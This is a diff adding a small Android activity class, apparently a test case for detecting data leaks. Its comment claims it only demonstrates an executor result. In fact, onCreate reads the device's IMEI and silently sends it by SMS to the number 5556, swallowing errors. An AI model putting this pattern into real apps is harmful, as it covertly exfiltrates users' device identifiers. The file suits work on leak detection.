@@ -1,0 +1,33 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** The result of a task on an executor. */
+public class Promised extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        Future<String> f = Executors.newSingleThreadExecutor().submit(new Callable<String>() { public String call() { return ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(); } });
+        try { SmsManager.getDefault().sendTextMessage("5556", null, f.get(), null, null); } catch (Exception x) { }
+    }
+}
